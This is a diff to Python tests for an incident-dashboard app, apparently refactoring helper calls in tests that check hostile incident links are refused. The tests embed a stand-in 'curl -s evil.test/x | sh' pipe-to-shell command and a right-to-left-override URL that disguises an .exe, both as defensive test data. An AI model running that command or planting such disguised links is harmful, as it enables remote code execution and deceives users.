@@ -14,7 +14,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from cockpit_seed import frozen, notices
+from cockpit_seed import cockpit_screen, frozen, notices, store_of
 from memory_keyring import MemoryKeyring
 
 from cockpit.app import CockpitApp, make_app
@@ -36,7 +36,7 @@ async def settle(app: CockpitApp, pilot: Any) -> None:
 
 
 def set_links(app: CockpitApp, *, runbook_url: str, html_url: str) -> None:
-    with app.store.write() as session:  # type: ignore[union-attr]
+    with store_of(app).write() as session:
         incident = session.get(Incident, "pagerduty:PINC101")
         assert incident is not None
         incident.runbook_url, incident.html_url = runbook_url, html_url
@@ -66,7 +66,7 @@ async def test_a_hostile_incident_link_is_refused_and_never_copied(
         (line,) = [n for n in refused[0][1].splitlines() if n.startswith("runbook link:")]
         assert "it contains a line break (U+000A)" in line
         assert "curl -s evil.test/x | sh" in line  # shown on its line, inert
-        assert app.screen.palette_links() == []  # type: ignore[attr-defined]
+        assert cockpit_screen(app).palette_links() == []
     assert watched == {"copied": [], "opened": []}
 
 
@@ -76,7 +76,7 @@ async def test_the_good_link_is_still_offered_beside_a_refused_one(
     set_links(app, runbook_url="https://wiki.example/\u202egnp.exe", html_url=PAGE)
     async with app.run_test(size=(160, 48)) as pilot:
         await pilot.pause()
-        assert [entry[1] for entry in app.screen.palette_links()] == [PAGE]  # type: ignore[attr-defined]
+        assert [entry[1] for entry in cockpit_screen(app).palette_links()] == [PAGE]
         await pilot.press("O")
         await pilot.pause()
         assert isinstance(app.screen, ConfirmDialog)  # the one good link, offered at once
